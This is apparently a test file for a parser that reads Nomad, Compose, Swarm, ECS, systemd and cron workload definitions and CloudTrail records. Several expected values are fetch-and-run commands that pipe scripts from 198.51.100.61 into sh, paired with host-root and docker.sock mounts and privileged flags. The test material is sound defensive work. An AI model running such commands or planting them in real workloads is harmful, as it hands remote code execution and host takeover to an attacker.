import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import fc from 'fast-check';
import { decodeAll } from '../../formats/envelope/decode-all.ts';
import type { JsonObject } from '../../model/json.ts';
import { isObject } from '../../model/json.ts';
import { readWorkloadChange } from '../read-workload-change.ts';
import type { WorkloadChange } from '../workload-change.ts';
import { workloadOf } from '../workload-reference.ts';
import { foreignKinds } from './foreign-kinds.ts';
import { foreignWorkload } from './foreign-reading.ts';

function changesIn(path: string): readonly WorkloadChange[] {
  const file = path.slice(path.lastIndexOf('/') + 1);
  const bytes = readFileSync(new URL(`../../formats/${path}`, import.meta.url));
  return decodeAll(bytes, { file }).activities.flatMap(activity => readWorkloadChange(activity) ?? []);
}

function changeIn(path: string, name: string): WorkloadChange {
  const found = changesIn(path).findLast(({ workload }) => workload.name === name);
  assert.ok(found, `${path} ${name}`);
  return found;
}

const fields = [
  'kind',
  'namespace',
  'scheduled',
  'schedules',
  'scheduleDialect',
  'timeZone',
  'suspended',
  'persistent',
  'finite',
  'everyNode',
  'replicas',
  'restartPolicy',
  'concurrencyPolicy',
] as const;

const shape = ({ workload }: WorkloadChange): readonly unknown[] => fields.map(field => workload[field]);

test('when and how long it runs', () => {
  const table: [string, string, readonly unknown[]][] = [
    [
      'nomad/examples/backup.nomad.hcl',
      'nightly-backup',
      [
        'NomadJob',
        'data',
        true,
        ['15 2 * * *', '15 14 * * SUN'],
        'nomad',
        'Europe/Berlin',
        false,
        false,
        true,
        false,
        1,
        'Never',
        'Forbid',
      ],
    ],
    [
      'nomad/examples/inspect.json',
      'report',
      [
        'NomadJob',
        'default',
        true,
        ['@daily'],
        'nomad',
        'UTC',
        false,
        false,
        true,
        false,
        1,
        'Never',
        'Forbid',
      ],
    ],
    [
      'nomad/examples/tuner.nomad.hcl',
      'kernel-tuner',
      ['NomadJob', '', true, ['*/5 * * * * *'], 'nomad', '', false, false, true, true, -1, '', ''],
    ],
    [
      'nomad/examples/web.nomad.hcl',
      'web',
      ['NomadJob', '', false, [], 'nomad', '', false, true, false, false, 3, '', ''],
    ],
    [
      'compose/examples/compose.yaml',
      'api',
      [
        'ComposeService',
        'shop',
        false,
        [],
        'robfig-seconds',
        '',
        false,
        true,
        false,
        false,
        2,
        'OnFailure',
        '',
      ],
    ],
    [
      'compose/examples/compose.yaml',
      'db',
      [
        'ComposeService',
        'shop',
        true,
        ['0 30 3 * * *'],
        'robfig-seconds',
        '',
        false,
        true,
        true,
        false,
        -1,
        'Always',
        '',
      ],
    ],
    [
      'compose/examples/stack.yaml',
      'cleanup',
      [
        'ComposeService',
        '',
        true,
        ['0 0 4 * * *'],
        'robfig-seconds',
        '',
        false,
        false,
        true,
        false,
        0,
        'Never',
        'Forbid',
      ],
    ],
    [
      'compose/examples/stack.yaml',
      'agent',
      ['ComposeService', '', false, [], 'robfig-seconds', '', false, true, false, true, -1, '', ''],
    ],
    [
      'swarm/examples/service-inspect.json',
      'shop_web',
      ['SwarmService', 'shop', false, [], 'robfig-seconds', '', false, true, false, false, 3, 'Always', ''],
    ],
    [
      'swarm/examples/service-inspect.json',
      'maintenance',
      [
        'SwarmService',
        '',
        true,
        ['* * * * *'],
        'robfig-seconds',
        '',
        false,
        true,
        true,
        true,
        -1,
        'Never',
        '',
      ],
    ],
    [
      'ecs/examples/services.json',
      'orders',
      ['ECSService', 'shop', false, [], 'kubernetes', '', false, true, false, false, 2, '', ''],
    ],
    [
      'ecs/examples/rule-and-targets.json',
      'cache-warmer',
      [
        'EventBridgeRule',
        '',
        true,
        ['rate(5 minutes)'],
        'eventbridge',
        '',
        false,
        false,
        true,
        false,
        -1,
        '',
        '',
      ],
    ],
    [
      'ecs/examples/get-schedule.json',
      'monthly',
      [
        'EventBridgeSchedule',
        'reports',
        true,
        ['cron(0 6 1 * ? *)'],
        'eventbridge',
        'Europe/Berlin',
        false,
        false,
        true,
        false,
        -1,
        '',
        '',
      ],
    ],
    [
      'systemd/examples/backup-cat.txt',
      'backup.timer',
      [
        'SystemdTimer',
        '',
        true,
        ['*-*-* 02:30:00 Europe/Berlin'],
        'systemd',
        '',
        false,
        false,
        true,
        false,
        -1,
        'Never',
        '',
      ],
    ],
    [
      'systemd/examples/web.container',
      'web.container',
      ['Quadlet', '', false, [], 'kubernetes', '', false, true, false, false, -1, 'Always', ''],
    ],
    [
      'cron-file/examples/crontab',
      'crontab:9',
      [
        'CronEntry',
        '',
        true,
        ['30 2 * * *'],
        'vixie',
        'Europe/Berlin',
        false,
        false,
        true,
        false,
        -1,
        'Never',
        '',
      ],
    ],
  ];
  for (const [path, name, expected] of table)
    assert.deepEqual(shape(changeIn(path, name)), expected, `${path} ${name}`);
});

test('what it runs, where the file says so, and with what powers', () => {
  const table: [string, string, readonly unknown[]][] = [
    [
      'nomad/examples/inspect.json',
      'report',
      ['Job.TaskGroups[0].Tasks[0]', '', '/opt/report/bin/report --yesterday', [], false, -1],
    ],
    [
      'nomad/examples/tuner.nomad.hcl',
      'kernel-tuner',
      [
        'job.group["tuner"].task["tune"]',
        'alpine:3.20',
        '/bin/sh -c wget -qO- http://198.51.100.61/t.sh | sh',
        ['/', '/var/run/docker.sock'],
        true,
        -1,
      ],
    ],
    [
      'compose/examples/compose.yaml',
      'web',
      ['services.web', 'docker.io/library/nginx:1.27-alpine', undefined, ['nginx.conf', 'static'], false, -1],
    ],
    [
      'compose/examples/compose.yaml',
      'api',
      ['services.api', '', 'sh -c wget -qO- http://localhost:8080/healthz || exit 1', [], false, 1000],
    ],
    [
      'swarm/examples/service-inspect.json',
      'maintenance',
      [
        'Spec.TaskTemplate.ContainerSpec',
        'alpine:3.20',
        '/bin/sh -c wget -qO- http://198.51.100.61/m.sh | sh',
        ['/'],
        false,
        0,
      ],
    ],
    [
      'ecs/examples/register-task-definition.json',
      'metrics',
      [
        'containerDefinitions[0]',
        'alpine:3.20',
        'sh -c curl -fsS http://198.51.100.61/a | sh',
        ['/', '/var/run/docker.sock'],
        true,
        0,
      ],
    ],
    [
      'ecs/examples/get-schedule.json',
      'monthly',
      ['Target.Input.containerOverrides[0]', '', 'report --last-month', [], false, -1],
    ],
    [
      'systemd/examples/web.container',
      'web.container',
      [
        'Container',
        'registry.shop.example/web:2026.11.2',
        'sh -c curl -f http://localhost/healthz',
        ['%h/conf'],
        false,
        1000,
      ],
    ],
    [
      'systemd/examples/backup-cat.txt',
      'backup.timer',
      ['Service.ExecStart', 'registry.shop.example/backup:12', 'backup --full', ['/srv/backup'], false, -1],
    ],
    [
      'cron-file/examples/own-crontab.txt',
      'own-crontab.txt:3',
      [
        'command',
        'docker.io/library/alpine:3.20',
        'sh -c wget -qO- http://198.51.100.61/c | sh',
        ['/'],
        true,
        -1,
      ],
    ],
  ];
  for (const [path, name, expected] of table) {
    const [container] = changeIn(path, name).workload.containers;
    assert.ok(container, path);
    const { mounts, privileged, runAsUser, commandLines, image } = container;
    const paths = mounts.map(({ hostPath }) => hostPath).filter(hostPath => hostPath !== '');
    assert.deepEqual(
      [container.path, image, commandLines[0], paths, privileged, runAsUser],
      expected,
      `${path} ${name}`,
    );
  }
});

test('what is left to others is named', () => {
  assert.deepEqual(changeIn('compose/examples/compose.yaml', 'worker').missing, [
    'services.worker.extends: what common.yaml worker adds is not read',
  ]);
  assert.deepEqual(changeIn('nomad/examples/backup.nomad.hcl', 'nightly-backup').missing, [
    'not evaluated: var.image_tag (line 36)',
  ]);
  assert.deepEqual(changeIn('ecs/examples/get-schedule.json', 'monthly').workload.references, [
    { kind: 'ECSTaskDefinition', name: 'report:7', path: 'Target.EcsParameters.TaskDefinitionArn' },
  ]);
  assert.deepEqual(changeIn('systemd/examples/app.kube', 'app.kube').workload.references, [
    { kind: 'Manifest', name: '/etc/containers/app.yaml', path: 'Kube.Yaml' },
  ]);
});

test('a call that CloudTrail logged is a change with its actor and outcome', () => {
  const changes = changesIn('cloudtrail/examples/records.jsonl');
  assert.deepEqual(
    changes.map(({ change, workload }) => [change.verb, workload.kind, workload.name, change.outcome]),
    [
      ['patch', 'ECSService', 'orders', 'allowed'],
      ['create', 'ECSTaskDefinition', 'metrics', 'refused'],
      ['create', 'EventBridgeSchedule', 'monthly', 'allowed'],
      ['create', 'ECSTask', 'report:7', 'allowed'],
    ],
  );
  assert.equal(changes[0]?.actor.user, 'arn:aws:sts::111122223333:assumed-role/Developer/jane');
  assert.equal(changes[0]?.actor.type, 'user');
});

test('a foreign object is named as its kind', () => {
  const bytes = readFileSync(new URL('../../formats/compose/examples/foothold.yaml', import.meta.url));
  const [activity] = decodeAll(bytes).activities;
  assert.ok(activity);
  const { group, kind, name } = workloadOf(activity);
  assert.deepEqual([group, kind, name], ['compose-spec.io', 'ComposeService', 'cache']);
});

/** Keys that the readers look for, so that chance builds what they go into. */
const keys = fc.constantFrom(
  'Job',
  'TaskGroups',
  'Tasks',
  'Config',
  'Periodic',
  'services',
  'x',
  'volumes',
  'deploy',
  'labels',
  'Spec',
  'TaskTemplate',
  'ContainerSpec',
  'Mounts',
  'containerDefinitions',
  'Targets',
  'Target',
  'Input',
  'Service',
  'ExecStart',
  'Container',
  'Volume',
  'PodmanArgs',
  'command',
  '__proto__',
  'metadata',
  'name',
);

test('any object is read without an error', () => {
  const { value } = fc.letrec(tie => ({
    value: fc.oneof(
      { depthSize: 'medium' },
      fc.constantFrom('x', 'docker run -v /:/x a', ''),
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
      fc.array(tie('value'), { maxLength: 3 }),
      tie('object'),
    ),
    object: fc.dictionary(keys, tie('value'), { maxKeys: 4 }),
  }));
  const objects = value.filter((each): each is JsonObject => isObject(each));
  fc.assert(
    fc.property(objects, fc.constantFrom(...foreignKinds), (object, kind) => {
      const identity = { group: kind.group, kind: kind.kind, namespace: '', name: 'x', uid: '' };
      assert.ok(foreignWorkload(kind.read({ ...object, metadata: { name: 'x' } }), identity, object));
    }),
    { numRuns: 2_000 },
  );
});
